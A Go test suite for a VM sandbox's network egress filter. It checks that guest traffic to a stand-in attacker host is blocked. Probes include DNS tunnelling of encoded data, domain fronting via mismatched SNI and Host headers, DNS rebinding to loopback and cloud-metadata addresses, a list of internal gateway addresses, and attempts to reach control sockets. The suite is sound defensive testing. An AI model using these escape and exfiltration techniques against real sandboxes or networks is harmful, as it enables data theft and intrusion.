package main

import (
	"net"
	"strconv"
	"strings"
	"testing"

	"github.com/carrel-vm/carrel/guest/api"
	"github.com/carrel-vm/carrel/guest/egress/egresstest"
)

// Every name has an address in the guest, and none is looked up before a rule
// allows it.
func testEgressNames(t *testing.T, s *site) {
	r := s.sh(t, `getent ahostsv4 `+egresstest.Attacker+` | head -1; getent ahostsv4 `+egresstest.Origin+` | head -1
		getent ahostsv6 `+egresstest.Origin+` | grep -v ffff || echo no v6; getent hosts localhost | head -1; cat /etc/resolv.conf`)
	if strings.Count(r, "198.1") < 2 || !strings.Contains(r, "no v6") || !strings.Contains(r, "127.0.0.1") {
		t.Errorf("%s", r)
	}
	if qs := s.net.DNS.Queries(); len(qs) != 0 {
		t.Errorf("look-ups in the guest asked the host's name server: %v", qs)
	}
	// The control: a connection that a rule allows does.
	s.plain(t, "get", "https://"+egresstest.Origin+"/")
	if s.net.DNS.Asked(egresstest.Origin) == 0 {
		t.Error("control: the origin was never looked up")
	}
	s.quiet(t, egresstest.Origin)
}

// E03: in clear text the request's own target counts: another one than the
// connection's is refused, absolute or not.
func testEgressAbsoluteForm(t *testing.T, s *site) {
	at := egresstest.Second + ":80"
	for _, x := range []string{
		"GET http://" + egresstest.Attacker + "/ HTTP/1.1\\r\\nHost: " + egresstest.Second + "\\r\\nConnection: close\\r\\n\\r\\n",
		"GET http://" + egresstest.Attacker + "/ HTTP/1.1\\r\\nHost: " + egresstest.Attacker + "\\r\\nConnection: close\\r\\n\\r\\n",
		"GET / HTTP/1.1\\r\\nHost: " + egresstest.Attacker + "\\r\\nConnection: close\\r\\n\\r\\n",
		"CONNECT " + egresstest.Attacker + ":443 HTTP/1.1\\r\\nHost: " + egresstest.Attacker + ":443\\r\\n\\r\\n",
		"CONNECT " + at + " HTTP/1.1\\r\\nHost: " + at + "\\r\\n\\r\\n",
	} {
		got := s.plain(t, "send", at, x)[at]
		if !strings.Contains(got, "HTTP/1.1 4") {
			t.Errorf("%.60s: %s", x, got)
		}
	}
	if n := len(s.net.Host(egresstest.Second).Requests()); n != 0 {
		t.Errorf("%d of them reached the server", n)
	}
	for _, x := range []string{"/", "http://" + egresstest.Second + "/"} {
		got := s.plain(t, "send", at, "GET "+x+" HTTP/1.1\\r\\nHost: "+egresstest.Second+"\\r\\nConnection: close\\r\\n\\r\\n")[at]
		if !strings.Contains(got, "this is "+egresstest.Second) {
			t.Errorf("control: %s: %s", x, got)
		}
	}
	s.quiet(t, egresstest.Second)
}

// E10, E12: the name connected to, the one in the TLS handshake and the one in
// the request: allowed, denied or absent in each place. Only all three allowed
// and equal pass where TLS is looked into; where it is passed through, the third
// is not seen.
func testEgressFronting(t *testing.T, s *site) {
	good := egresstest.Second
	literal := s.net.Host(good).Addrs[0]
	var args []string
	for _, to := range []string{good, egresstest.Attacker, literal} {
		for _, sni := range []string{good, egresstest.Attacker, "-"} {
			for _, host := range []string{good, egresstest.Attacker, "-"} {
				args = append(args, to+":443", sni, host)
			}
		}
	}
	for what, how := range s.plain(t, append([]string{"tls"}, args...)...) {
		ok := strings.HasPrefix(how, "200")
		if want := what == good+":443 "+good+" "+good; ok != want {
			t.Errorf("%s: %s", what, how)
		}
	}
	if got := s.net.Host(good).Requests(); len(got) != 1 || got[0].Host != good {
		t.Errorf("%d requests reached the server: %v", len(got), got)
	}
	// Passed through: the handshake's name has to be the connection's; what is
	// said inside, nobody sees. docs/egress.md says so.
	cdn, tenant := egresstest.CDN, egresstest.Tenant
	since := s.last(t)
	for what, how := range s.plain(t, "tls", cdn+":443", cdn, cdn, cdn+":443", cdn, tenant, cdn+":443", tenant, tenant, cdn+":443", "-", cdn, tenant+":443", cdn, cdn) {
		ok := strings.HasPrefix(how, "200")
		if want := strings.HasPrefix(what, cdn+":443 "+cdn); ok != want {
			t.Errorf("%s: %s", what, how)
		}
	}
	seen := 0
	for _, e := range s.events(t) {
		if e.Sequence > since && e.Host == cdn && e.Kind == api.EgressEventKind_EGRESS_EVENT_KIND_CONNECT {
			seen++
		}
	}
	if seen < 4 {
		t.Errorf("%d connections to the CDN are on record", seen)
	}
	// The cure: a rule that looks inside.
	s.allowed(t, func() {
		for what, how := range s.plain(t, "tls", cdn+":443", cdn, cdn, cdn+":443", cdn, tenant) {
			if ok := strings.HasPrefix(how, "200"); ok != (what == cdn+":443 "+cdn+" "+cdn) {
				t.Errorf("inspected: %s: %s", what, how)
			}
		}
	}, &api.EgressRule{Host: cdn, Inspect: true})
	s.quiet(t, good, cdn)
}

// E09: where TLS is looked into, the real server is verified.
func testEgressCertificates(t *testing.T, s *site) {
	for _, host := range []string{egresstest.Foreign, egresstest.Wrong} {
		got := s.plain(t, "get", "https://"+host+"/")["https://"+host+"/"]
		if !strings.Contains(got, "502") {
			t.Errorf("%s: %s", host, got)
		}
	}
	if n := len(s.net.Host(egresstest.Foreign).Requests()) + len(s.net.Host("other.example.com").Requests()); n != 0 {
		t.Errorf("%d requests were sent to servers that could not be verified", n)
	}
	// Passed through, the guest's own tool verifies.
	if got := s.sh(t, "curl -sS https://"+egresstest.Expired+"/"); !strings.Contains(got, "expired") {
		t.Errorf("%s", got)
	}
}

// Addresses are refused unless a rule names them.
func testEgressLiterals(t *testing.T, s *site) {
	a4, a6 := s.net.Host(egresstest.Origin).Addrs[0], s.net.Host(egresstest.Origin).Addrs[1]
	at := a4 + ":80"
	if got := s.plain(t, "tcp", at)[at]; strings.Contains(got, "this is") {
		t.Errorf("%s", got)
	}
	at6 := net.JoinHostPort(a6, "80")
	if got := s.sh(t, "/tools/plain tcp "+at6); strings.Contains(got, "this is") {
		t.Errorf("%s", got)
	}
	if n := s.net.Host(egresstest.Origin).Connections(); n != 0 {
		t.Errorf("%d connections", n)
	}
	s.denied(t, 0, a4, 80)
	s.allowed(t, func() {
		if got := s.plain(t, "tcp", at)[at]; !strings.Contains(got, "this is") {
			t.Errorf("control: %s", got)
		}
	}, &api.EgressRule{Host: a4, Ports: []uint32{80}})
	s.quiet(t, egresstest.Origin)
}

// E15: an allowed name that resolves to the host, to private or to metadata
// addresses is not dialled there; each answer is checked.
func testEgressRebinding(t *testing.T, s *site) {
	const name = "rebind.example.com"
	public := s.net.Host(egresstest.Second).Addrs[0]
	defer s.net.DNS.Set(name)
	for _, bad := range [][]string{
		{"127.0.0.1"}, {"::1"}, {egresstest.HostAddr}, {egresstest.HostAddr6}, {"::ffff:127.0.0.1"}, {egresstest.Private},
		{egresstest.Metadata}, {"0.0.0.0"}, {"::"}, {"100.64.0.1"}, {"192.0.0.192"}, {"fd00:ec2::254"}, {"64:ff9b::a0b:c0d"}, {"fe80::1"},
	} {
		s.net.DNS.Set(name, bad...)
		for _, port := range []string{"80", s.net.Canary.Port} {
			at := name + ":" + port
			if got := s.plain(t, "tcp", at)[at]; strings.Contains(got, "this is") || strings.Contains(got, egresstest.CanaryWord) {
				t.Errorf("%s: %s", bad, got)
			}
		}
	}
	s.quiet(t)
	// The control; then an answer that changes between two connections.
	at := name + ":80"
	s.net.DNS.Set(name, public)
	if got := s.plain(t, "tcp", at)[at]; !strings.Contains(got, "this is") {
		t.Errorf("control: %s", got)
	}
	s.net.DNS.Set(name, "127.0.0.1", public) // a good one beside a bad one
	s.plain(t, "tcp", at, name+":"+s.net.Canary.Port)
	s.quiet(t, egresstest.Second)
}

// E16: the addresses and names at which other sandboxes have the host, a
// gateway or a metadata service lead nowhere.
func testEgressMagicAddresses(t *testing.T, s *site) {
	var to []string
	for _, a := range []string{
		"192.168.127.1", "192.168.127.254", "192.168.64.1", "192.168.65.7", "192.168.5.2", "10.0.2.2", "10.0.2.3", "172.17.0.1", "100.100.100.200",
		egresstest.Metadata, egresstest.Private, egresstest.HostAddr, egresstest.Gateway, "198.18.0.1", "198.18.0.2", "224.0.0.1", "255.255.255.255", "0.0.0.0", "127.0.0.1",
		"host.docker.internal", "gateway.docker.internal", "host.containers.internal", "host.lima.internal", "host.carrel.internal", "metadata.google.internal",
		egresstest.MetadataHost, egresstest.Inner, "::1", "fe80::1", egresstest.HostAddr6, "::ffff:" + egresstest.HostAddr,
	} {
		for _, p := range []string{"80", "443", "2375", s.net.Canary.Port} {
			to = append(to, net.JoinHostPort(a, p))
		}
	}
	for _, user := range []string{"", "root"} {
		for a, how := range s.plainAs(t, user, append([]string{"tcp"}, to...)...) {
			if strings.Contains(how, "this is") || strings.Contains(how, egresstest.CanaryWord) {
				t.Errorf("%s as %q: %s", a, user, how)
			}
		}
	}
	if qs := s.net.DNS.Queries(); len(qs) != 0 {
		t.Errorf("names that no rule allows were looked up: %v", qs)
	}
	s.quiet(t)
	s.denied(t, 0, egresstest.Metadata, 80)
	// The controls: each kind is reached when a rule names it.
	port, err := strconv.Atoi(s.net.Canary.Port)
	if err != nil {
		t.Fatal(err)
	}
	s.allowed(t, func() {
		for at, want := range map[string]string{
			"host.carrel.internal:" + s.net.Canary.Port: egresstest.CanaryWord,
			egresstest.Metadata + ":80":                 "this is",
			egresstest.Inner + ":80":                    "this is",
		} {
			if got := s.plain(t, "tcp", at)[at]; !strings.Contains(got, want) {
				t.Errorf("control: %s: %s", at, got)
			}
		}
	}, &api.EgressRule{Host: "host.carrel.internal", Ports: []uint32{uint32(port)}},
		&api.EgressRule{Host: egresstest.Metadata, Ports: []uint32{80}},
		&api.EgressRule{Host: egresstest.Inner, Ports: []uint32{80}, Private: true})
}

// E17: no API of ours, or of anybody, answers from inside: not over vsock, not
// over a socket in a file, not over the network.
func testEgressControlAPI(t *testing.T, s *site) {
	for _, user := range []string{"", "root"} {
		for _, cid := range []string{"0", "1", "2", "3", "4294967295"} {
			args := []string{"vsock", cid}
			for _, p := range []int{0, 1, 22, 63, 64, 65, 66, 67, 80, 443, 1023, 1024, 2375, 7777, 8080, 9999, 50000, 65535, 1 << 31} {
				args = append(args, strconv.Itoa(p))
			}
			for p, how := range s.plainAs(t, user, args...) {
				if strings.Contains(how, "HTTP/") && !strings.Contains(how, " 4") || strings.Contains(how, "guests") {
					t.Errorf("vsock %s:%s as %q: %s", cid, p, user, how)
				}
			}
		}
	}
	r := s.root(t, `find / -xdev -type s 2>/dev/null; cat /proc/net/unix | grep -a -e carrel -e docker -e dbus; echo looked`)
	if strings.Contains(r, s.home) || strings.Contains(r, "docker") || strings.Contains(r, "d.sock") || !strings.HasSuffix(r, "looked\n") {
		t.Errorf("sockets in reach: %s", r)
	}
	// The control: the same question, asked on the host, is answered.
	resp, err := unixClient(s.home+"/run/d.sock").Post("http://carrel/carrel.v1.GuestService/List", "application/json", strings.NewReader("{}"))
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("control: %v %v", resp, err)
	}
	resp.Body.Close()
	s.quiet(t)
}

// E19: nothing but TCP leaves, and what does not, fails at once, so that a
// client falls back.
func testEgressOnlyTCP(t *testing.T, s *site) {
	attacker, origin := s.net.Host(egresstest.Attacker).Addrs[0], egresstest.Origin
	udp := []string{attacker + ":443", attacker + ":123", "8.8.8.8:443", origin + ":443", "1.1.1.1:853", "[2606:4700::1111]:443"}
	for _, user := range []string{"", "root"} {
		for a, how := range s.plainAs(t, user, append([]string{"refused"}, udp...)...) {
			if strings.HasPrefix(how, "answer") || strings.HasPrefix(how, "silence") {
				t.Errorf("udp to %s as %q: %s", a, user, how)
			}
		}
		// To everybody: whether somebody hears it is all that counts.
		s.plainAs(t, user, "udp", "255.255.255.255:67", "224.0.0.251:5353", "[ff02::1]:443")
		for what, how := range s.plainAs(t, user, "raw", attacker) {
			if strings.Contains(how, "bytes came") && !strings.Contains(what, "gre") && !strings.Contains(what, "raw") && !strings.Contains(what, "packet") {
				t.Errorf("%s as %q: %s", what, user, how)
			}
		}
	}
	if r := s.root(t, "ping -c1 -W1 "+attacker+" || python3 -c 'print(1)'; ip -o link show | grep -v -e ': lo' -e sit0 -e dummy0 || echo no card"); !strings.Contains(r, "no card") {
		t.Errorf("%s", r)
	}
	if r := s.sh(t, "curl --version | grep -q HTTP3 && curl --http3-only -sS https://"+origin+"/ || echo no QUIC"); strings.Contains(r, "this is") {
		t.Errorf("QUIC: %s", r)
	}
	s.quiet(t)
	// The controls: the tap sees a datagram that the host sends, and TCP leaves.
	c, err := net.Dial("udp", attacker+":443")
	if err != nil {
		t.Fatal(err)
	}
	c.Write([]byte("x"))
	c.Close()
	if f := s.net.Tap.Beyond(); len(f) != 1 || f[0].Proto != "udp" {
		t.Errorf("control: the tap saw %v", f)
	}
	if got := s.plain(t, "tcp", origin+":80")[origin+":80"]; !strings.Contains(got, "this is") {
		t.Errorf("control: %s", got)
	}
}

// E20: names carry nothing out.
func testEgressDNSTunnel(t *testing.T, s *site) {
	word := strings.Repeat("deadbeef", 7)
	zone := egresstest.Attacker
	names := []string{word + "." + zone, word + "." + word + "." + word + "." + zone, "a." + zone, word + "." + egresstest.Origin, "txt." + zone}
	for _, server := range []string{"-", "127.0.0.1:53", "8.8.8.8:53", "1.1.1.1:53", s.net.Host(zone).Addrs[0] + ":53", egresstest.Resolver + ":53"} {
		for n, how := range s.plain(t, append([]string{"dns", server}, names...)...) {
			if strings.Contains(how, "AAAA=[") || strings.Contains(how, "TXT=1") || strings.Contains(how, "NS=1") || strings.Contains(how, s.net.Host(zone).Addrs[0]) {
				t.Errorf("%s asked for %s: %s", server, n, how)
			}
		}
	}
	// DNS over TCP, TLS and HTTPS, to those who would pass it on.
	s.plain(t, "tcp", "8.8.8.8:53", "1.1.1.1:53", "1.1.1.1:853", "1.1.1.1:443")
	s.plain(t, "get", "https://1.1.1.1/dns-query?name="+word+"."+zone, "https://cloudflare-dns.com/dns-query?name="+word+"."+zone, "https://"+word+"."+zone+"/")
	if got := s.net.DNS.Queries(); len(got) != 0 {
		t.Errorf("queries left: %v", got)
	}
	s.quiet(t)
	// The control: the very same leaves when a rule allows the zone.
	s.allowed(t, func() {
		s.plain(t, "get", "https://"+word+"."+zone+"/")
		if s.net.DNS.Asked(zone) == 0 {
			t.Error("control: nothing was asked")
		}
	}, &api.EgressRule{Host: "*." + zone})
}

// E27: a program that ignores every convention has no other way: its own
// resolver, addresses that it knows, no variables.
func testEgressNoProxyNeeded(t *testing.T, s *site) {
	if r := s.sh(t, "env | grep -i _proxy || echo none"); r != "none\n" {
		t.Errorf("the guest is told of a proxy: %s", r)
	}
	attacker := s.net.Host(egresstest.Attacker).Addrs[0]
	for a, how := range s.plainAs(t, "root", "tcp", attacker+":80", attacker+":443", attacker+":8080", "["+s.net.Host(egresstest.Attacker).Addrs[1]+"]:80") {
		if strings.Contains(how, "this is") {
			t.Errorf("%s: %s", a, how)
		}
	}
	r := s.root(t, `ip link add veth0 type veth peer name veth1; ip addr add `+egresstest.HostAddr+`/24 dev lo; ip route add `+attacker+`/32 via 127.0.0.1
		ip route add default dev lo metric 5; /tools/plain tcp `+attacker+`:80; ip addr del `+egresstest.HostAddr+`/24 dev lo; ip link del veth0; ip route del `+attacker+`/32; ip route del default dev lo metric 5`)
	if strings.Contains(r, "this is") {
		t.Errorf("with routes of its own: %s", r)
	}
	s.quiet(t)
	if got := s.plain(t, "get", "https://"+egresstest.Origin+"/")["https://"+egresstest.Origin+"/"]; !strings.Contains(got, "this is") {
		t.Errorf("control: %s", got)
	}
}
